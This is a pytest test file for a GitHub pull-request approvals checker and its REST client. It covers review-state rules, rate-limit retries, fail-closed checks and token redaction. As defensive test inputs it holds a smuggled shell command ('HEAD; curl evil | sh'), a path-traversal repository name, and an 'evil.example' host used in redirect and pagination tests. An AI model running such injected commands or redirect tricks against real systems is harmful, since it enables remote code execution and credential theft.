"""GitHub approvals: events, review semantics and the REST client, never the network.

API responses and event payloads are recorded JSON under ``fixtures/github/`` in the
shapes GitHub documents; a fake transport serves them by URL.
"""

from __future__ import annotations

import email.message
import http.client
import io
import json
import logging
import traceback
import urllib.error
import urllib.request
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from opsascode.approvals import APPROVED, CHANGES_REQUESTED, ApprovalSource
from opsascode.approvals.github import (
    GitHubApprovals,
    GitHubEvent,
    commit_contributors,
    event_revisions,
    judge_reviews,
    load_event,
    parse_event,
)
from opsascode.approvals.github_api import GitHubClient, HttpResponse, UrllibTransport
from opsascode.errors import FatalError

FIXTURES = Path(__file__).parent / "fixtures" / "github"
TOKEN = "ghs_S3cr3tT0kenValue0123456789abcdefABCDEF"
API = "https://api.github.com"
GHES = "https://ghes.example.com/api/v3"
HEAD = "6dcb09b5b57875f334f61aebed695e2e4193db5e"
OLD = "9c48853fa3dc5c1c3d6f1f1cd1f2743e72652840"
BASE = "c7a4e2f1d3b5a6978c0e1f2d3b4a5c6d7e8f9a0b"
NOW = 1_795_000_000.0
PULL = "/repos/acme/ops/pulls/42"
REPO_ID_PULL = "/repositories/713254110/pulls/42"


def fixture(name: str) -> Any:
    return json.loads((FIXTURES / name).read_text(encoding="utf-8"))


def response(body: Any, status: int = 200, **headers: str) -> HttpResponse:
    names = {key.replace("_", "-"): value for key, value in headers.items()}
    return HttpResponse(status, names, json.dumps(body).encode())


class FakeTransport:
    """Serves queued responses by URL; the last one of a queue repeats."""

    def __init__(self, routes: dict[str, list[HttpResponse | Exception]]) -> None:
        self.routes = routes
        self.requests: list[urllib.request.Request] = []

    def __call__(self, request: urllib.request.Request) -> HttpResponse:
        self.requests.append(request)
        queue = self.routes.get(request.full_url)
        assert queue, f"unexpected request {request.full_url}"
        item = queue.pop(0) if len(queue) > 1 else queue[0]
        if isinstance(item, Exception):
            raise item
        return item

    @property
    def urls(self) -> list[str]:
        return [request.full_url for request in self.requests]


def pull_routes(api: str = API, pull: Any = None) -> dict[str, list[HttpResponse | Exception]]:
    """The recorded pull request #42: 3 pages of reviews, 4 commits."""
    page = f"{api}{REPO_ID_PULL}/reviews?per_page=100&page="
    last = f'<{page}3>; rel="last"'
    return {
        f"{api}{PULL}": [response(pull or fixture("pull_42.json"))],
        f"{api}{PULL}/commits?per_page=100": [response(fixture("pull_42_commits.json"))],
        f"{api}{PULL}/reviews?per_page=100": [response(
            fixture("pull_42_reviews_page1.json"), link=f'<{page}2>; rel="next", {last}')],
        f"{page}2": [response(
            fixture("pull_42_reviews_page2.json"),
            link=f'<{page}1>; rel="prev", <{page}3>; rel="next", {last}, <{page}1>; rel="first"')],
        f"{page}3": [response(
            fixture("pull_42_reviews_page3.json"),
            link=f'<{page}2>; rel="prev", <{page}1>; rel="first"')],
    }


def synchronize_event() -> GitHubEvent:
    return parse_event("pull_request_target", fixture("event_pull_request_target_synchronize.json"))


def make_source(
    routes: dict[str, list[HttpResponse | Exception]],
    event: GitHubEvent | None = None,
    api: str = API,
) -> tuple[GitHubApprovals, FakeTransport, list[float]]:
    transport, sleeps = FakeTransport(routes), list[float]()
    client = GitHubClient(TOKEN, api, transport, sleep=sleeps.append, clock=lambda: NOW)
    return GitHubApprovals(client, event or synchronize_event()), transport, sleeps


def client_for(routes: dict[str, list[HttpResponse | Exception]]) -> tuple[
        GitHubClient, FakeTransport, list[float]]:
    transport, sleeps = FakeTransport(routes), list[float]()
    client = GitHubClient(TOKEN, API, transport, sleep=sleeps.append, clock=lambda: NOW)
    return client, transport, sleeps


# -- events -------------------------------------------------------------------


@pytest.mark.parametrize("name", ["pull_request_target", "pull_request"])
def test_pull_request_opened_event(name: str) -> None:
    payload = fixture("event_pull_request_target_opened.json")
    event = parse_event(name, payload)
    assert (event.repository, event.number, event.author) == ("acme/ops", 42, "carol")
    assert event.base == "9049f1265b7d61be4a8904a9a27120d2064dab3b"
    assert event.head == event.pull_head == "2f2e1b6a2a4f7c6b8f0a1c3e5d7b9a0c2e4f6a8b"
    assert event_revisions(name, payload) == (event.base, event.head)


def test_synchronize_event_gives_the_pushed_head() -> None:
    payload = fixture("event_pull_request_target_synchronize.json")
    assert event_revisions("pull_request_target", payload) == (BASE, HEAD)


def test_review_event() -> None:
    event = parse_event("pull_request_review", fixture("event_pull_request_review_submitted.json"))
    assert (event.number, event.base, event.head, event.pull_head) == (42, BASE, HEAD, HEAD)


def test_merge_group_maps_the_queue_branch_to_its_pull_request() -> None:
    payload = fixture("event_merge_group_checks_requested.json")
    event = parse_event("merge_group", payload)
    assert (event.repository, event.number, event.pull_head) == ("acme/ops", 42, None)
    assert event_revisions("merge_group", payload) == (
        BASE, "ec26c3e57ca3a959ca5aad62de7213c562f8c821")


def test_merge_group_with_a_base_branch_containing_slashes() -> None:
    payload = fixture("event_merge_group_checks_requested.json")
    payload["merge_group"]["head_ref"] = (
        f"refs/heads/gh-readonly-queue/release/pr-7-x/pr-108-{BASE}")
    assert parse_event("merge_group", payload).number == 108


def test_merge_group_outside_the_queue_is_refused() -> None:
    payload = fixture("event_merge_group_checks_requested.json")
    payload["merge_group"]["head_ref"] = "refs/heads/main"
    with pytest.raises(FatalError, match="not a merge queue branch"):
        parse_event("merge_group", payload)


def test_unsupported_event_lists_the_supported_ones() -> None:
    with pytest.raises(FatalError, match=r"'push'.*pull_request_target.*merge_group"):
        parse_event("push", fixture("event_pull_request_target_opened.json"))


@pytest.mark.parametrize(("path", "value", "message"), [
    (("pull_request", "head", "sha"), "HEAD; curl evil | sh", "head.sha is not a commit id"),
    (("pull_request", "base", "sha"), None, "lacks pull_request.base.sha"),
    (("pull_request", "number"), True, "not a positive integer"),
    (("repository", "full_name"), "acme/../../user", "not owner/name"),
])
def test_malformed_payload_values_are_refused(
        path: tuple[str, ...], value: Any, message: str) -> None:
    payload = fixture("event_pull_request_target_synchronize.json")
    parent = payload
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = value
    with pytest.raises(FatalError, match=message):
        parse_event("pull_request_target", payload)


def test_load_event_outside_actions() -> None:
    with pytest.raises(FatalError, match="inside a GitHub Actions job"):
        load_event({})


def test_load_event_reads_the_payload_file(tmp_path: Path) -> None:
    path = tmp_path / "event.json"
    path.write_text("[1, 2]")
    with pytest.raises(FatalError, match="not a JSON object"):
        load_event({"GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(path)})


# -- the whole source, from recorded responses -----------------------------------


def test_collect_follows_three_pages_and_judges_every_review() -> None:
    source, transport, sleeps = make_source(pull_routes())
    result = source.collect()

    page = f"{API}{REPO_ID_PULL}/reviews?per_page=100&page="
    assert [u for u in transport.urls if "reviews" in u] == [
        f"{API}{PULL}/reviews?per_page=100", f"{page}2", f"{page}3"]
    assert sleeps == []
    counted = {(a.by, a.state, a.fresh) for a in result.approvals}
    assert counted == {
        ("alice", APPROVED, True),
        ("bob", APPROVED, True),
        ("erin", APPROVED, False),  # on an earlier commit: stale
        ("frank", APPROVED, True),  # a later comment does not undo it
        ("heidi", CHANGES_REQUESTED, True),
    }
    assert [a.by for a in result.approvals] == ["alice", "bob", "erin", "frank", "heidi"]
    reasons = [(n.approval.by, n.approval.state, n.reason) for n in result.not_counted]
    assert reasons == [
        ("alice", APPROVED, "superseded by alice's later review at 2026-11-21T14:02:11+00:00"),
        ("alice", "commented", "comment-only review: neither approves nor requests changes"),
        ("bob", CHANGES_REQUESTED, "superseded by bob's later review at 2026-11-21T14:20:00+00:00"),
        ("dependabot[bot]", APPROVED, "review by a bot account; bots cannot approve"),
        ("frank", "commented", "comment-only review: neither approves nor requests changes"),
        ("ghost", APPROVED, "review by a deleted account"),
        ("grace", "dismissed", "review was dismissed"),
    ]


def test_collect_approval_fields() -> None:
    source, _, _ = make_source(pull_routes())
    alice = next(a for a in source.collect().approvals if a.by == "alice")
    assert alice.at == datetime(2026, 11, 21, 14, 2, 11, tzinfo=UTC)
    assert alice.at.tzinfo is not None
    assert (alice.source, alice.change, alice.commit, alice.signed) == ("github", None, HEAD, False)


def test_collect_facts() -> None:
    source, _, _ = make_source(pull_routes())
    facts = source.collect().facts
    assert (facts.author, facts.number, facts.head, facts.base) == ("carol", 42, HEAD, BASE)
    assert facts.title == "CHG-2026-0042: upgrade payments PostgreSQL replica to 15.6"
    # dave authored a commit; web-flow (web edits) and an unlinked e-mail are no one.
    assert facts.contributors == {"carol", "dave"}


def test_source_is_an_approval_source() -> None:
    source: ApprovalSource = make_source(pull_routes())[0]
    assert source.name == "github"


def test_every_request_is_authenticated() -> None:
    source, transport, _ = make_source(pull_routes())
    source.collect()
    assert transport.requests
    for request in transport.requests:
        assert request.get_header("Authorization") == f"Bearer {TOKEN}"
        assert request.get_method() == "GET"
        # Unredirected: urllib never forwards it when following a redirect.
        assert "Authorization" not in request.headers


def test_merge_group_evaluates_the_queued_pull_request() -> None:
    event = parse_event("merge_group", fixture("event_merge_group_checks_requested.json"))
    source, transport, _ = make_source(pull_routes(), event)
    result = source.collect()
    assert transport.urls[0] == f"{API}{PULL}"
    assert (result.facts.number, result.facts.head, result.facts.base) == (42, HEAD, BASE)
    assert {a.by for a in result.approvals if a.fresh} == {"alice", "bob", "frank", "heidi"}


def test_a_push_during_the_check_fails_closed() -> None:
    pull = fixture("pull_42.json")
    pull["head"]["sha"] = "1111111111111111111111111111111111111111"
    source, _, _ = make_source(pull_routes(pull=pull))
    with pytest.raises(FatalError, match="moved from 6dcb09b5b578 to 111111111111"):
        source.collect()


def test_commits_beyond_the_listing_limit_fail_closed() -> None:
    pull = fixture("pull_42.json")
    pull["commits"] = 300
    source, _, _ = make_source(pull_routes(pull=pull))
    with pytest.raises(FatalError, match="listed 4 of the pull request's 300 commits; "
                                         "GitHub lists at most 250"):
        source.collect()


def test_ghes_api_url() -> None:
    source, transport, _ = make_source(pull_routes(GHES), api=GHES + "/")
    result = source.collect()
    assert all(url.startswith(f"{GHES}/") for url in transport.urls)
    assert transport.urls[0] == "https://ghes.example.com/api/v3/repos/acme/ops/pulls/42"
    assert len(result.approvals) == 5


def test_from_env_merge_group(tmp_path: Path) -> None:
    event_path = tmp_path / "event.json"
    event_path.write_text(json.dumps(fixture("event_merge_group_checks_requested.json")))
    transport = FakeTransport(pull_routes(GHES))
    source = GitHubApprovals.from_environment({
        "GITHUB_TOKEN": TOKEN, "GITHUB_EVENT_NAME": "merge_group",
        "GITHUB_EVENT_PATH": str(event_path), "GITHUB_API_URL": GHES,
    }, transport=transport, sleep=lambda _: None)
    assert source.collect().facts.number == 42
    assert transport.urls[0] == f"{GHES}{PULL}"


def test_from_env_without_token_says_how_to_grant_it() -> None:
    with pytest.raises(FatalError) as caught:
        GitHubApprovals.from_environment({"GITHUB_EVENT_NAME": "pull_request_target"})
    message = str(caught.value)
    assert "GITHUB_TOKEN is not set" in message
    assert "pull-requests: read" in message
    assert "contents: read" in message


# -- review semantics ------------------------------------------------------------


def review(number: int, login: str | None, state: str, commit: str = HEAD,
           user_type: str = "User") -> dict[str, Any]:
    user = None if login is None else {"login": login, "id": 100 + number, "type": user_type}
    return {"id": number, "user": user, "state": state, "commit_id": commit,
            "submitted_at": f"2026-11-21T10:{number:02d}:00Z"}


def judged(*reviews: dict[str, Any]) -> tuple[list[tuple[str, str, bool]], list[tuple[str, str]]]:
    approvals, not_counted = judge_reviews(list(reviews), HEAD)
    return ([(a.by, a.state, a.fresh) for a in approvals],
            [(n.approval.state, n.reason) for n in not_counted])


def test_the_latest_review_of_each_user_counts() -> None:
    counted, ignored = judged(review(1, "alice", "APPROVED"),
                              review(2, "alice", "CHANGES_REQUESTED"))
    assert counted == [("alice", CHANGES_REQUESTED, True)]
    assert ignored == [
        (APPROVED, "superseded by alice's later review at 2026-11-21T10:02:00+00:00")]


def test_reviews_are_ordered_by_submission_not_by_listing() -> None:
    counted, _ = judged(review(2, "alice", "APPROVED"), review(1, "alice", "CHANGES_REQUESTED"))
    assert counted == [("alice", APPROVED, True)]


def test_logins_are_case_insensitive() -> None:
    counted, ignored = judged(review(1, "Alice", "APPROVED"),
                              review(2, "alice", "CHANGES_REQUESTED"))
    assert counted == [("alice", CHANGES_REQUESTED, True)]
    assert len(ignored) == 1


def test_a_comment_after_an_approval_keeps_the_approval() -> None:
    counted, ignored = judged(review(1, "alice", "APPROVED"), review(2, "alice", "COMMENTED"))
    assert counted == [("alice", APPROVED, True)]
    assert ignored == [("commented", "comment-only review: neither approves nor requests changes")]


def test_a_comment_after_a_request_for_changes_keeps_blocking() -> None:
    counted, _ = judged(review(1, "bob", "CHANGES_REQUESTED"), review(2, "bob", "COMMENTED"))
    assert counted == [("bob", CHANGES_REQUESTED, True)]


def test_a_dismissed_review_counts_for_nothing() -> None:
    counted, ignored = judged(review(1, "dan", "DISMISSED"))
    assert counted == []
    assert ignored == [("dismissed", "review was dismissed")]


def test_a_dismissed_later_review_withdraws_the_earlier_one() -> None:
    counted, ignored = judged(review(1, "dan", "APPROVED"), review(2, "dan", "DISMISSED"))
    assert counted == []
    assert ignored == [
        (APPROVED, "withdrawn: dan's later review at 2026-11-21T10:02:00+00:00 was dismissed"),
        ("dismissed", "review was dismissed"),
    ]


def test_approving_again_after_a_dismissal_counts() -> None:
    counted, _ = judged(review(1, "dan", "DISMISSED"), review(2, "dan", "APPROVED"))
    assert counted == [("dan", APPROVED, True)]


def test_changes_requested_is_returned_as_blocking() -> None:
    approvals, _ = judge_reviews([review(1, "heidi", "CHANGES_REQUESTED")], HEAD)
    assert approvals[0].state == CHANGES_REQUESTED


def test_a_review_of_an_earlier_commit_is_stale() -> None:
    counted, ignored = judged(review(1, "erin", "APPROVED", commit=OLD))
    assert counted == [("erin", APPROVED, False)]
    assert ignored == []


def test_a_review_without_a_commit_is_stale() -> None:
    no_commit = review(1, "erin", "APPROVED")
    no_commit["commit_id"] = None
    approvals, _ = judge_reviews([no_commit], HEAD)
    assert (approvals[0].commit, approvals[0].fresh) == (None, False)


@pytest.mark.parametrize(("login", "user_type"), [("renovate[bot]", "Bot"), ("ci-app", "Bot"),
                                                  ("helper[bot]", "User")])
def test_bot_reviews_are_not_counted(login: str, user_type: str) -> None:
    counted, ignored = judged(review(1, login, "APPROVED", user_type=user_type),
                              review(2, login, "CHANGES_REQUESTED", user_type=user_type))
    assert counted == []
    assert {reason for _, reason in ignored} == {"review by a bot account; bots cannot approve"}


def test_pending_and_unknown_reviews_are_not_counted() -> None:
    pending = review(1, "ivan", "PENDING")
    pending["submitted_at"] = None
    counted, ignored = judged(pending, review(2, "judy", "SOMETHING_NEW"))
    assert counted == []
    assert ignored == [("pending", "review not submitted yet"),
                       ("something_new", "unknown review state 'SOMETHING_NEW'")]


def test_contributors_are_authors_and_committers_but_not_web_flow() -> None:
    commits: list[dict[str, Any]] = [
        {"author": {"login": "carol"}, "committer": {"login": "web-flow"}},
        {"author": None, "committer": {"login": "mallory"}},
        {"author": {"login": "dave"}, "committer": None},
    ]
    assert commit_contributors(commits) == {"carol", "mallory", "dave"}


# -- the client: retries, rate limits, errors ----------------------------------------


def test_429_with_retry_after_then_success() -> None:
    client, transport, sleeps = client_for({f"{API}/x": [
        response(fixture("error_secondary_rate_limit.json"), 429, retry_after="7"),
        response({"ok": True}),
    ]})
    assert client.get_json("/x") == {"ok": True}
    assert sleeps == [7.0]
    assert len(transport.requests) == 2


def test_403_primary_rate_limit_waits_for_the_reset() -> None:
    client, _, sleeps = client_for({f"{API}/x": [
        response(fixture("error_rate_limit.json"), 403,
                 x_ratelimit_remaining="0", x_ratelimit_reset=str(int(NOW) + 30)),
        response({"ok": True}),
    ]})
    assert client.get_json("/x") == {"ok": True}
    assert sleeps == [31.0]


def test_403_secondary_rate_limit_with_retry_after() -> None:
    client, _, sleeps = client_for({f"{API}/x": [
        response(fixture("error_secondary_rate_limit.json"), 403, retry_after="60"),
        response([]),
    ]})
    assert client.get_json("/x") == []
    assert sleeps == [60.0]


def test_a_rate_limit_lifting_much_later_fails_at_once() -> None:
    client, _, sleeps = client_for({f"{API}/x": [response(
        fixture("error_rate_limit.json"), 403,
        x_ratelimit_remaining="0", x_ratelimit_reset=str(int(NOW) + 1800))]})
    with pytest.raises(FatalError, match="GET /x: GitHub API rate limit exceeded; "
                                         "it lifts in 1801 s"):
        client.get_json("/x")
    assert sleeps == []


def test_a_rate_limit_that_persists_gives_up_after_three_retries() -> None:
    client, transport, sleeps = client_for({f"{API}/x": [response({}, 429, retry_after="1")]})
    with pytest.raises(FatalError, match="still exceeded after 3 retries"):
        client.get_json("/x")
    assert sleeps == [1.0, 1.0, 1.0]
    assert len(transport.requests) == 4


def test_403_without_rate_limit_is_a_permission_error() -> None:
    client, _, sleeps = client_for({f"{API}/x": [response(
        {"message": "Resource not accessible by integration"}, 403, x_ratelimit_remaining="4999")]})
    with pytest.raises(FatalError, match=r"HTTP 403 \(Resource not accessible.*pull-requests"):
        client.get_json("/x")
    assert sleeps == []


def test_5xx_is_retried_with_backoff_then_succeeds() -> None:
    client, _, sleeps = client_for({f"{API}/x": [
        response({"message": "Server Error"}, 502), response({}, 503), response({"ok": 1})]})
    assert client.get_json("/x") == {"ok": 1}
    assert sleeps == [1.0, 2.0]


def test_5xx_that_persists_names_the_status() -> None:
    client, transport, _ = client_for({f"{API}/x": [response({"message": "Server Error"}, 502)]})
    with pytest.raises(FatalError, match=r"GET /x failed with HTTP 502 \(Server Error\)"):
        client.get_json("/x")
    assert len(transport.requests) == 3


def test_network_errors_are_retried_then_reported() -> None:
    flaky: dict[str, list[HttpResponse | Exception]] = {
        f"{API}/x": [TimeoutError("timed out"), response({"ok": 1})]}
    client, _, sleeps = client_for(flaky)
    assert client.get_json("/x") == {"ok": 1}
    assert sleeps == [1.0]

    client, _, _ = client_for({f"{API}/x": [OSError("connection refused")]})
    with pytest.raises(FatalError, match="GET /x: no response from GitHub"):
        client.get_json("/x")


def test_invalid_json_is_a_clear_error() -> None:
    client, _, _ = client_for({f"{API}/x": [HttpResponse(200, {}, b"<html>")]})
    with pytest.raises(FatalError, match="GET /x: GitHub returned invalid JSON"):
        client.get_json("/x")


def test_a_next_link_off_the_api_is_not_followed() -> None:
    client, transport, _ = client_for({f"{API}/x?per_page=100": [
        response([1], link='<https://evil.example/x?page=2>; rel="next"')]})
    with pytest.raises(FatalError, match=r"next-page link outside https://api\.github\.com"):
        client.get_paginated("/x")
    assert len(transport.requests) == 1


@pytest.mark.parametrize("url", ["ftp://ghes.example.com", "https://user:pw@ghes.example.com/api/v3",
                                 "not a url"])
def test_bad_api_urls_are_refused(url: str) -> None:
    with pytest.raises(FatalError, match="GITHUB_API_URL"):
        GitHubClient(TOKEN, url)


def test_urllib_transport_has_a_timeout_and_keeps_redirects_on_the_same_host(
        monkeypatch: pytest.MonkeyPatch) -> None:
    transport = UrllibTransport()
    seen: list[float] = []

    def fake_open(request: urllib.request.Request, timeout: float) -> Any:
        seen.append(timeout)
        raise TimeoutError

    monkeypatch.setattr(transport._opener, "open", fake_open)
    with pytest.raises(TimeoutError):
        transport(urllib.request.Request(f"{API}/x"))
    assert seen == [30.0]

    from opsascode.approvals.github_api import _SameOriginRedirects
    handler, request = _SameOriginRedirects(), urllib.request.Request(f"{API}/repos/a/b")
    evil = "https://evil.example/x"
    assert handler.redirect_request(request, None, 301, "Moved", {}, evil) is None
    moved = handler.redirect_request(request, None, 301, "Moved", {}, f"{API}/repositories/1")
    assert moved is not None and moved.full_url == f"{API}/repositories/1"


# -- the token never leaks ----------------------------------------------------------


def test_404_is_clear_and_never_shows_the_token(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    routes = pull_routes()
    routes[f"{API}{PULL}"] = [response(fixture("error_404.json"), 404)]
    source, _, _ = make_source(routes)
    with pytest.raises(FatalError) as caught:
        source.collect()

    error = caught.value
    assert str(error).startswith(f"GET {PULL} failed with HTTP 404 (Not Found)")
    assert "pull-requests: read, contents: read" in str(error)
    everything = " ".join([
        str(error), repr(error), repr(error.args), repr(error.__cause__), repr(error.__context__),
        "".join(traceback.format_exception(error)), repr(source.client), repr(source),
        repr(vars(source.client)), caplog.text,
    ])
    assert TOKEN not in everything
    assert TOKEN[4:12] not in everything


def test_network_failure_never_shows_the_token() -> None:
    client, _, _ = client_for({f"{API}/x": [OSError(f"boom {API}/x")]})
    with pytest.raises(FatalError) as caught:
        client.get_json("/x")
    text = "".join(traceback.format_exception(caught.value))
    assert TOKEN not in text
    assert caught.value.__suppress_context__


def test_empty_token_is_refused() -> None:
    with pytest.raises(FatalError, match="GITHUB_TOKEN is empty"):
        GitHubClient("")


def test_a_head_missing_from_the_commits_fails_closed() -> None:
    routes = pull_routes()
    routes[f"{API}{PULL}/commits?per_page=100"] = [response(fixture("pull_42_commits.json")[:3])]
    pull = fixture("pull_42.json")
    pull["commits"] = 3
    routes[f"{API}{PULL}"] = [response(pull)]
    source, _, _ = make_source(routes)
    with pytest.raises(FatalError, match="head commit 6dcb09b5b578 is missing"):
        source.collect()


def test_malformed_api_lists_are_a_clear_error() -> None:
    routes = pull_routes()
    routes[f"{API}{PULL}/reviews?per_page=100"] = [response(["not a review"])]
    source, _, _ = make_source(routes)
    with pytest.raises(FatalError, match=f"GET {PULL}/reviews: expected a list of JSON objects"):
        source.collect()


def test_a_truncated_response_is_retried() -> None:
    client, _, sleeps = client_for({f"{API}/x": [
        http.client.IncompleteRead(b"{"), response({"ok": 1})]})
    assert client.get_json("/x") == {"ok": 1}
    assert sleeps == [1.0]


def test_urllib_transport_returns_error_statuses_as_responses(
        monkeypatch: pytest.MonkeyPatch) -> None:
    transport = UrllibTransport()
    headers = email.message.Message()
    headers["Retry-After"] = "3"

    def fake_open(request: urllib.request.Request, timeout: float) -> Any:
        raise urllib.error.HTTPError(request.full_url, 429, "Too Many", headers,
                                     io.BytesIO(b'{"message": "slow down"}'))

    monkeypatch.setattr(transport._opener, "open", fake_open)
    got = transport(urllib.request.Request(f"{API}/x"))
    assert (got.status, got.headers["Retry-After"], got.body) == (
        429, "3", b'{"message": "slow down"}')
